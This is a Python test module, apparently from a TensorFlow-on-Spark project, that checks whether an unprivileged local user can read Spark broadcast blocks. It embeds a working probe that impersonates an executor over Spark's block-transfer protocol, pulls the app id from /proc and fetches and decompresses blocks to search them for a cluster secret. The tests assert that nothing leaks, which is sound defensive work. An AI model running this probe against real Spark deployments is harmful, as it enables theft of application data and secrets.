"""The attacker of issue 53: another user (uid 65534, no capability) who can reach a Spark
application's JVM ports asks each of them for blocks in Spark's own block-transfer protocol
(``OpenBlocks`` then ``ChunkFetchRequest``), as an executor would fetch a broadcast. With
``spark.authenticate`` off (Spark's default) a block manager serves any block to anyone; with it on,
it answers nothing without Spark's SASL/auth-engine handshake.

The probe is standard-library Python run by the system interpreter (``-I``, nothing of the test
environment): it reads the application id from an executor's command line (as anyone can, in
``/proc``), then asks every given port for ``broadcast_<i>`` and ``broadcast_<i>_piece<j>`` over a
range of ids, pipelined, and prints what it got. The test side decompresses Spark's LZ4 blocks
(broadcasts are compressed by default) and searches the plaintext."""

from __future__ import annotations

import base64
import contextlib
import hashlib
import json
import logging
import os
import struct
import subprocess

PROBE = r"""
import base64, json, os, socket, struct, sys
targets, first, count = json.loads(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])

def app_id():
    for pid in os.listdir("/proc"):
        try:
            args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        except OSError:
            continue
        if b"--app-id" in args:
            return args[args.index(b"--app-id") + 1].decode()
    return "app"

def text(s):
    b = s.encode()
    return struct.pack(">i", len(b)) + b

def frame(kind, msg, body=b""):
    return struct.pack(">qb", 9 + len(msg) + len(body), kind) + msg + body

def open_blocks(rid, app, block):  # RpcRequest(3) carrying BlockTransferMessage OpenBlocks(0)
    body = b"\0" + text(app) + text("1") + struct.pack(">i", 1) + text(block)
    return frame(3, struct.pack(">qi", rid, len(body)), body)

def read_exact(s, n):
    out = bytearray()
    while len(out) < n:
        got = s.recv(n - len(out))
        if not got:
            raise ConnectionError("closed")
        out += got
    return bytes(out)

def read_frame(s):
    n = struct.unpack(">q", read_exact(s, 8))[0]
    if not 9 <= n <= 64 << 20:
        raise ConnectionError(f"not Spark's framing ({n})")
    data = read_exact(s, n - 8)
    return data[0], data[1:]

def steal(host, port, app, ids, out):
    s = socket.create_connection((host, port), timeout=5)
    s.settimeout(5)
    try:
        for start in [0] + list(range(1, len(ids), 256)):  # one request first: is it a block manager?
            batch = ids[start:start + (256 if start else 1)]
            s.sendall(b"".join(open_blocks(start + k, app, b) for k, b in enumerate(batch)))
            handles = []
            for _ in batch:
                kind, rest = read_frame(s)
                if kind == 4:  # RpcResponse: requestId, body size, StreamHandle(3): stream id, chunks
                    rid, = struct.unpack(">q", rest[:8])
                    body = rest[12:]
                    if body[:1] == b"\3":
                        stream, chunks = struct.unpack(">qi", body[1:13])
                        handles.append((ids[rid], stream, chunks))
                elif kind == 5:  # RpcFailure: requestId, the error's text
                    error = rest[12:].decode(errors="replace")
                    if "not found" not in error:  # e.g. the driver's RPC endpoint: not a block manager
                        raise ConnectionError(f"not a block manager: {error[:100]}")
                else:
                    raise ConnectionError(f"unexpected message type {kind}")
            for block, stream, chunks in handles:
                for c in range(chunks):
                    s.sendall(frame(0, struct.pack(">qi", stream, c)))
                    kind, rest = read_frame(s)
                    if kind == 1:  # ChunkFetchSuccess: stream id, chunk index, the block's bytes
                        out.append({"port": port, "block": block, "data": base64.b64encode(rest[12:]).decode()})
    finally:
        s.close()

app = app_id()
ids = [f"broadcast_{i}" + p for i in range(first, first + count) for p in ["", "_piece0", "_piece1", "_piece2"]]
blocks, errors = [], {}
for host, port in targets:
    try:
        steal(host, port, app, ids, blocks)
    except Exception as e:
        errors[f"{host}:{port}"] = f"{type(e).__name__}: {e}"[:200]
print(json.dumps({"app_id": app, "blocks": blocks, "errors": errors}), flush=True)
"""

def row_text(i: int) -> str:
    """Row i's text: made in the feeding tasks, in no closure, so the attacker can only find it fed."""
    return hashlib.sha256(b"tfos-row-%d" % i).hexdigest()


def read_slowly(_args, ctx):
    """main_fun: read the feed slowly (the feeding job then stays up for seconds, and with it the
    broadcast of its closure), reporting the rows read."""
    import time

    feed = ctx.get_data_feed(train_mode=True)
    rows = 0
    for text, _i in feed.batches(10):
        rows += len(text)
        ctx.report(rows=rows)
        time.sleep(0.1)


OTHER_USER = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]  # and no capability at all


def steal(targets, first: int, count: int, namespace: str | None = None, timeout: float = 300.0) -> dict:
    """Run the probe (as uid 65534 when this process is root; in ``namespace`` if given) against
    ``targets`` [(host, port)] for broadcast ids ``first .. first+count-1``; its JSON answer."""
    cmd = ["/usr/bin/python3", "-I", "-c", PROBE, json.dumps([list(t) for t in targets]), str(first), str(count)]
    if os.geteuid() == 0:
        cmd = OTHER_USER + cmd
    if namespace:
        cmd = ["ip", "netns", "exec", namespace] + cmd
    proc = subprocess.run(cmd, capture_output=True, text=True, timeout=timeout, cwd="/")
    if proc.returncode != 0 or not proc.stdout.strip():
        raise RuntimeError(f"the block probe failed ({proc.returncode}): {proc.stderr[-2000:]}")
    return json.loads(proc.stdout.strip().splitlines()[-1])


def _lz4_length(src: bytes, i: int, n: int) -> tuple[int, int]:
    """An LZ4 length whose 4-bit part is ``n``: 15 continues in bytes up to one below 255."""
    if n == 15:
        while True:
            b = src[i]
            i += 1
            n += b
            if b != 255:
                break
    return n, i


def lz4_block(src: bytes, size: int) -> bytes:
    """One LZ4 block (the raw format, no frame) decompressed to ``size`` bytes."""
    out = bytearray()
    i = 0
    while i < len(src):
        token = src[i]
        n, i = _lz4_length(src, i + 1, token >> 4)
        out += src[i:i + n]
        i += n
        if i >= len(src):
            break
        offset = src[i] | src[i + 1] << 8
        m, i = _lz4_length(src, i + 2, token & 15)
        for _ in range(m + 4):  # overlapping copies repeat bytes, so byte by byte
            out.append(out[-offset])
    return bytes(out[:size])


def lz4_streams(data: bytes) -> bytes:
    """Everything in the lz4-java ``LZ4BlockOutputStream`` streams inside ``data`` (Spark's
    spark.io.compression.codec=lz4, the default) decompressed and joined."""
    out = bytearray()
    at = data.find(b"LZ4Block")
    while at >= 0 and at + 21 <= len(data):
        token = data[at + 8]
        clen, dlen = struct.unpack("<ii", data[at + 9:at + 17])
        body = data[at + 21:at + 21 + clen]
        if clen > 0 and dlen > 0:
            try:
                out += body if token & 0xF0 == 0x10 else lz4_block(body, dlen)
            except IndexError:
                pass
        at = data.find(b"LZ4Block", at + 21 + max(clen, 0))
    return bytes(out)


def plaintext(answer: dict) -> bytes:
    """Every fetched block, raw and decompressed, joined."""
    parts = []
    for b in answer["blocks"]:
        data = base64.b64decode(b["data"])
        parts += [data, lz4_streams(data)]
    return b"\n".join(parts)


def found_nothing(answer: dict, canary: str, first: int, secret: str, rows) -> list:
    """Assert the probe read what Spark serves (the ``canary`` broadcast, id ``first``, and a
    broadcast of tfos's, the running feed's closure) and found neither ``secret`` nor any of the
    ``rows`` texts; the (port, block) pairs it fetched."""
    text = plaintext(answer)
    fetched = sorted({(b["port"], b["block"]) for b in answer["blocks"]})
    assert canary.encode() in text, answer["errors"]
    assert {b for _, b in fetched} - {f"broadcast_{first}", f"broadcast_{first}_piece0"}, fetched
    assert not holds_secret(text, secret), fetched
    assert not any(r.encode() in text for r in rows)
    return fetched


def holds_secret(text: bytes, secret_hex: str) -> bool:
    """The 64-hex cluster secret in any of the forms it could take: text, raw bytes, base64."""
    raw = bytes.fromhex(secret_hex)
    return any(form in text for form in (secret_hex.encode(), raw, base64.b64encode(raw)[:40]))


class Keep(logging.Handler):
    """The warnings logged while it is attached (``lines``): what a driver program said."""

    def __init__(self):
        super().__init__(logging.WARNING)
        self.lines = []

    def emit(self, record):
        self.lines.append(record.getMessage())


@contextlib.contextmanager
def quiet_block_errors(sc):
    """The driver's JVM logs every refused block request with its stack (thousands while the probe
    scans): its transport handler's log is off meanwhile."""
    config = sc._jvm.org.apache.logging.log4j.core.config.Configurator
    level = sc._jvm.org.apache.logging.log4j.Level
    name = "org.apache.spark.network.server.TransportRequestHandler"
    config.setLevel(name, level.OFF)
    try:
        yield
    finally:
        config.setLevel(name, level.ERROR)


def jvm_listeners(sc) -> list[tuple[str, int]]:
    """(address, port) of every TCP listener of the application's JVMs: the driver JVM (its RPC,
    block manager and UI; the local-cluster master and workers live there too) and its descendants
    (the executors)."""
    import psutil

    driver = psutil.Process(sc._gateway.proc.pid)
    pids = {driver.pid} | {p.pid for p in driver.children(recursive=True)}
    out = set()
    for c in psutil.net_connections("tcp"):
        if c.status == psutil.CONN_LISTEN and c.pid in pids:
            host = c.laddr.ip
            out.add(("127.0.0.1" if host in ("0.0.0.0", "::", "::ffff:127.0.0.1") else host.replace("::ffff:", ""),
                     c.laddr.port))
    return sorted(out)
